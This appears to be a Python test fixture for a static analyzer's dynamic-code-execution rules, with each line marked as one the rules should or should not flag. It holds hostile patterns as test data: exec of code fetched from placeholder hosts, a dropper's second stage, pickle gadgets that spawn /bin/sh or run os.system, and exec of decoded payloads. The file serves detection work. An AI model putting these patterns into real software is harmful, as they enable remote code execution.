# Annotated examples for dynamic code execution rules (default set).
import ast
import base64
import functools
import os
import subprocess
import sys
import codecs
import dataclasses
import re
import runpy
import types
import urllib.request
import zlib
from base64 import b64decode as unb
import requests

expr = input()
# ruleid: AIR-EXEC-001
value = eval(expr)
# ruleid: AIR-EXEC-001
exec(open("step.py").read())
# ruleid: AIR-EXEC-001
exec("help()")
# ok: AIR-EXEC-001
exec("total = 1 + 2")
# ruleid: AIR-EXEC-001
code = compile(expr, "<agent>", "exec")
# ruleid: AIR-EXEC-001
getattr(__builtins__, "ev" + "al")(expr)
# ok: AIR-EXEC-001
literal = ast.literal_eval("[1, 2, 3]")
# ok: AIR-EXEC-001
pattern = re.compile(r"\d+")


def eval_model(model: object, data: list[int]) -> float:
    return float(sum(data))


# ok: AIR-EXEC-001
score = eval_model(None, [1, 2])

PAYLOAD = "cHJpbnQoJ2hpJyk="
# ruleid: AIR-EXEC-002
exec(base64.b64decode(PAYLOAD))
# ruleid: AIR-EXEC-002
exec(unb(PAYLOAD).decode())
blob = zlib.decompress(base64.b64decode(input()))
# ruleid: AIR-EXEC-002
exec(blob)
# ruleid: AIR-EXEC-002
eval(codecs.decode(input(), "rot13"))
# ruleid: AIR-EXEC-002
exec(bytes.fromhex(input()).decode())
# ok: AIR-EXEC-002
print(base64.b64decode(PAYLOAD).decode())

URL = "https://example.net/stage2.py"
# ruleid: AIR-EXEC-003
exec(urllib.request.urlopen(URL).read())
resp = requests.get(URL, timeout=5)
# ruleid: AIR-EXEC-003
exec(resp.text)
# ok: AIR-EXEC-003
print(requests.get(URL, timeout=5).json())

# ruleid: AIR-EXEC-004
runpy.run_path("/tmp/stage2.py")
# ruleid: AIR-EXEC-004
runpy.run_module("http.server")
# ok: AIR-EXEC-004
parsed = ast.parse("x = 1")

# ruleid: AIR-EXEC-005
fn = types.FunctionType(compile("1", "", "eval"), {})
# ok: AIR-EXEC-005
ns = types.SimpleNamespace(a=1)

# ruleid: AIR-EXEC-006
json_mod = __import__("json")
# ok: AIR-EXEC-006
import json

from cryptography.fernet import Fernet

sealed = Fernet(b"q3Zr6m4oP0c2bR1vYw9xT8sU7nK5jH4gF3dS2aL1k0E=")
# ruleid: AIR-EXEC-002
exec(sealed.decrypt(b"gAAAAABl..."))
# ok: AIR-EXEC-002
note = sealed.decrypt(b"gAAAAABl...").decode()


class PickledCommand:
    def __reduce__(self):
        # ruleid: AIR-EXEC-007
        return (os.system, ("id",))


class PickledShell:
    def __reduce_ex__(self, protocol):
        # ruleid: AIR-EXEC-007
        return subprocess.Popen, (("/bin/sh",),)


class Runs:
    # ruleid: AIR-EXEC-007
    __iadd__ = exec


class Meta(type):
    # ruleid: AIR-EXEC-007
    __getitem__ = eval


class Later:
    pass


# ruleid: AIR-EXEC-007
Later.__getitem__ = exec
# ok: AIR-EXEC-007
Later.__repr__ = repr


# ruleid: AIR-EXEC-007
@exec
@input
def typed():
    pass


# ruleid: AIR-EXEC-007
@exec
@input
class Typed:
    pass


# ok: AIR-EXEC-007
@functools.cache
def cached():
    return 1


# ok: AIR-EXEC-007
@dataclasses.dataclass
class Record:
    name: str


class PlainRecord:
    def __reduce__(self):
        # ok: AIR-EXEC-007
        return (dict, ({"a": 1},))

    # ok: AIR-EXEC-007
    __add__ = print

# Code held in a string is analysed as code: a dropper's second stage.
import tempfile  # noqa: E402

stage = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
# ruleid: AIR-EXEC-003
stage.write(b"from urllib.request import urlopen;exec(urlopen('https://example.invalid/p').read())")
# ok: AIR-EXEC-003
stage.write(b"print('import this is only text with exec( in it')")

# ruleid: AIR-EXEC-008
breakpoint()
import pdb  # noqa: E402

# ruleid: AIR-EXEC-008
pdb.set_trace()
# ruleid: AIR-EXEC-009
help()
# ok: AIR-EXEC-009
help(len)
# ruleid: AIR-PROC-001
print.__self__.__import__("os").system("id")

# A callable handed to something that calls it is judged as called there
# (analyzer/invokers.py).
import atexit  # noqa: E402
import threading  # noqa: E402
from concurrent.futures import ThreadPoolExecutor  # noqa: E402

# ruleid: AIR-EXEC-002
list(map(exec, [base64.b64decode("cHJpbnQoMSk=")]))
# ruleid: AIR-EXEC-001
threading.Thread(target=exec, args=(expr,)).start()
# ruleid: AIR-PROC-001
atexit.register(os.system, "id")
with ThreadPoolExecutor() as pool:
    # ruleid: AIR-PROC-001
    pool.submit(os.popen, "id")
    # ok: AIR-PROC-001
    pool.submit(print, "id")
# ok: AIR-EXEC-001
list(map(str, [expr]))
# ok: AIR-EXEC-001
threading.Thread(target=print, args=("exec",)).start()


# ruleid: AIR-EXEC-010
exec(input())
typed_source = input(">>> ")
# ruleid: AIR-EXEC-010
exec(typed_source, {})
# ruleid: AIR-EXEC-010
exec(sys.stdin.read())
# ok: AIR-EXEC-010
eval(sys.argv[1])
# ok: AIR-EXEC-010
exec(open(sys.argv[1]).read())
# ok: AIR-EXEC-010
count = int(input("how many? "))
# ok: AIR-EXEC-010
eval("2 ** 10")
# ruleid: AIR-EXEC-011
statements = compile(input(), "<typed>", "exec")
# ok: AIR-EXEC-011
formula = compile(input(), "<typed>", "eval")
